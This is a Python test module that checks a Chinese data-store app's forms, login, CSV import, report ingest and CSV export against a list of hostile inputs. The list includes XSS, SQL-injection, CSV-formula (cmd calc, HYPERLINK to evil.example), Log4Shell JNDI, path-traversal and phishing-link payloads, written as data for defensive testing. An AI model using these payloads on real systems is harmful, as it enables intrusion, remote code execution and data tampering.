"""A table of hostile inputs against every entry point: the store calls the forms make (figures,
links, tasks, new figures, tracker, report publishing, login), bulk-import CSV rows, quantities,
report files for ingest. Each input is either refused with a Chinese message and nothing written,
or accepted and harmless; none raises anything else (a traceback). URL parameters are driven
through the app in tests/views/test_hostile_urls.py.
"""

from __future__ import annotations

import io
import re
import zipfile

import pandas as pd
import pytest
import sqlalchemy as sa

from ingest.extract import PlaceMatcher, extract_candidates
from ingest.publish import publish_report
from ingest.read import IngestError, read_bytes
from metrics.export import to_csv_bytes
from metrics.load import load_places
from metrics.paths import DEFAULT_DATA_DIR
from metrics.quantity import QuantityError, parse_quantity
from store import auth, backup, schema
from store.db import data_revision, open_store
from store.edit import StoreError, create_row, get_row, update_row
from store.tracker import add_update

CJK = re.compile(r"[\u4e00-\u9fff]")
# (value, refused_in_free_text): free text accepts markdown and formulas (shown escaped, exported
# neutralised) but never control characters, lone surrogates, HTML or over-long text.
HOSTILE: list[tuple[str, bool]] = [
    ("[点此重新登录](https://evil.example/login)", False),
    ("![t](http://evil.example/t.png)", False),
    ("<script>alert(1)</script>", True),
    ("<img src=x onerror=alert(1)>", True),
    ("< img src=x>", True),
    ("<!-- x -->", True),
    ("javascript:alert(1)", False),
    ('=HYPERLINK("http://evil.example","点我")', False),
    ("+cmd|' /C calc'!A0", False),
    ("-2+3", False),
    ("@SUM(1+1)", False),
    ("'; DROP TABLE figures; --", False),
    ("' OR '1'='1", False),
    ("教师\x00培训", True),
    ("\x00", True),
    ("教师\x01培训", True),
    ("\x1b[31m红\x1b[0m", True),
    ("\x7f", True),
    ("\x0c分页", True),
    ("\ud800", True),
    ("\ufffe", True),
    ("长" * 100_000, True),
    ("a" * 5000, True),
    ("${jndi:ldap://evil.example/a}", False),
    ("{0.__class__}", False),
    ("%s%s%s%n", False),
    ("../../etc/passwd", False),
    (":red[红字] :material/warning:", False),
    ("$x^2$", False),
    ("# 标题", False),
    ("**粗体**", False),
    ("\u202e反向文字", False),
    ("零宽\u200b字符", False),
    ("😀表情", False),
    ("𠀀生僻字", False),
    ("   ", False),
    ("\\", False),
    ('"引号"', False),
    ("1e309", False),
    ("NaN", False),
]
FREE_TEXT = [  # (table, key, column, a value that keeps the row valid when accepted)
    ("figures", "wuhai-08", "indicator"),
    ("figures", "wuhai-08", "note"),
    ("figures", "wuhai-08", "headline"),
    ("links", None, "note"),
    ("tasks", "1.3", "title"),
]


def assert_chinese(error: Exception) -> None:
    assert CJK.search(str(error)), f"not a Chinese message: {error!r}"


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    engine = open_store(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'store.sqlite'}")
    auth.add_editor(engine, "zhang", "correct horse 1", "张编辑")
    yield engine
    engine.dispose()


def first_link(engine) -> str:
    with engine.connect() as connection:
        return connection.execute(sa.select(schema.links.c.link_id)).scalars().first()


def refused(call, engine) -> bool:
    """True when `call` is refused with a Chinese message and wrote nothing; False when it was
    accepted. Any other exception fails the test (it would be a traceback)."""
    revision = data_revision(engine)
    try:
        call()
    except (StoreError, QuantityError, IngestError) as error:
        assert_chinese(error)
        assert data_revision(engine) == revision, "a refused input wrote something"
        return True
    return False


@pytest.mark.parametrize(("table", "key", "column"), FREE_TEXT)
@pytest.mark.parametrize(("value", "harmful"), HOSTILE, ids=range(len(HOSTILE)))
def test_free_text_in_an_edit_form(store, table, key, column, value, harmful):
    key = key or first_link(store)
    row = get_row(store, table, key)
    limited = column == "indicator" and len(value.strip()) == 0  # an empty indicator is refused
    outcome = refused(
        lambda: update_row(store, table, key, row["version"], {column: value}, "张编辑", "测试"),
        store,
    )
    assert outcome == (harmful or limited), f"{column}={value[:30]!r}"
    if not outcome:  # accepted: put it back for the next case
        current = get_row(store, table, key)
        update_row(store, table, key, current["version"], {column: row[column]}, "张编辑", "还原")


@pytest.mark.parametrize(("value", "harmful"), HOSTILE, ids=range(len(HOSTILE)))
def test_reasons_and_keys(store, value, harmful):
    row = get_row(store, "figures", "wuhai-09")
    call = lambda: update_row(
        store, "figures", "wuhai-09", row["version"], {"note": "核对"}, "张", value
    )
    reason_refused = refused(call, store)
    assert reason_refused == harmful, repr(value[:30])
    if not reason_refused:
        current = get_row(store, "figures", "wuhai-09")
        update_row(
            store, "figures", "wuhai-09", current["version"], {"note": row["note"]}, "张", "还原"
        )
    new = {**row, "figure_id": value, "note": ""}
    created = not refused(lambda: create_row(store, "figures", new, "张编辑", "新增"), store)
    # A new figure whose id is hostile is refused (or, when harmless, it is a plain new row).
    assert not created or (not harmful and get_row(store, "figures", value) is not None)


@pytest.mark.parametrize(("value", "harmful"), HOSTILE, ids=range(len(HOSTILE)))
def test_amounts(store, value, harmful):
    for text in (value, value + "人次", "9" * 25 + value):
        try:
            quantity = parse_quantity(text)
        except QuantityError as error:
            assert_chinese(error)
            continue
        assert 0 <= quantity.value < 1e18


@pytest.mark.parametrize(("value", "harmful"), HOSTILE, ids=range(len(HOSTILE)))
def test_tracker_updates(store, value, harmful):
    updates = lambda: pd.read_sql(sa.select(schema.task_updates), store.connect())
    before = len(updates())
    note_refused = refused(
        lambda: add_update(store, "1.3", "2025-06", "推进中", value, "张"), store
    )
    assert note_refused == (harmful or len(value) > 2000)
    for call in (
        lambda: add_update(store, "1.3", value, "推进中", "说明", "张"),  # month
        lambda: add_update(store, value, "2025-06", "推进中", "说明", "张"),  # task
        lambda: add_update(store, "1.3", "2025-06", value, "说明", "张"),  # status
    ):
        assert refused(call, store)
    assert len(updates()) == before + (0 if note_refused else 1)


@pytest.mark.parametrize(("value", "harmful"), HOSTILE, ids=range(len(HOSTILE)))
def test_logins(store, value, harmful, monkeypatch):
    monkeypatch.setattr(auth, "SLOWDOWN_SECONDS", 0.0)
    for name, password in ((value, value), ("zhang", value)):
        try:
            assert auth.authenticate(store, name, password) is None
        except auth.LockedError as error:  # after repeated failures: refused, in Chinese
            assert_chinese(error)


def test_bulk_import_rows(store):
    """One upload with a hostile value in each of several columns of many rows: every harmful
    row is listed by its line, and nothing is written."""
    with zipfile.ZipFile(io.BytesIO(backup.export_zip(store))) as zf:
        figures = pd.read_csv(zf.open("figures.csv"), dtype=str, keep_default_na=False)
    base = figures.iloc[0].to_dict()
    rows, expected = [], {}
    for number, (value, harmful) in enumerate(HOSTILE):
        for column in ("indicator", "note", "value", "field", "place"):
            if "\ud800" in value:
                continue  # cannot be written to a UTF-8 file at all
            row = {**base, "figure_id": f"h-{number}-{column}", column: value}
            rows.append(row)
            blank = column == "indicator" and not value.strip()
            bad = harmful or blank or column in ("value", "field", "place")
            expected[len(rows) + 1] = bad
    upload = pd.DataFrame(rows).to_csv(index=False).encode("utf-8-sig")
    revision = data_revision(store)
    plan = backup.plan_import(store, backup.read_upload(upload, "figures.csv"))
    flagged = {line for _, line, _ in plan.errors}
    assert {line for line, bad in expected.items() if bad} <= flagged
    assert all(CJK.search(message) for _, _, message in plan.errors)
    with pytest.raises(StoreError):
        backup.apply_import(store, plan, "张编辑")
    assert data_revision(store) == revision
    assert len(rows) >= 190


@pytest.mark.parametrize(("value", "harmful"), HOSTILE, ids=range(len(HOSTILE)))
def test_reports_for_ingest_and_publish(store, value, harmful):
    places = PlaceMatcher.from_places(load_places(DEFAULT_DATA_DIR / "places.csv"))
    body = value.encode("utf-8", "surrogatepass")
    for raw, suffix in ((body, ".txt"), (b"PK\x03\x04" + body, ".docx"), (body, ".pdf")):
        try:
            text = read_bytes(raw, suffix)
        except IngestError as error:
            assert_chinese(error)
            continue
        extract_candidates(text, places)  # never raises
    report = f"乌海市月报{value[:300]}。北京市东城区专家服务群众1200余人次。"
    candidates = extract_candidates(report, places)
    table = candidates.assign(keep=True, clause=candidates["sentence"], indicator="服务群众")
    meta = {"title": value or "标题", "published": "2026-03-31"}
    outcome = refused(lambda: publish_report(store, report, meta, table, "张编辑"), store)
    assert outcome or not harmful


def test_exports_neutralise_every_formula():
    frame = pd.DataFrame({"指标": [value for value, _ in HOSTILE if "\ud800" not in value]})
    csv = to_csv_bytes(frame).decode("utf-8-sig")
    cells = pd.read_csv(io.StringIO(csv), dtype=str, keep_default_na=False)["指标"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
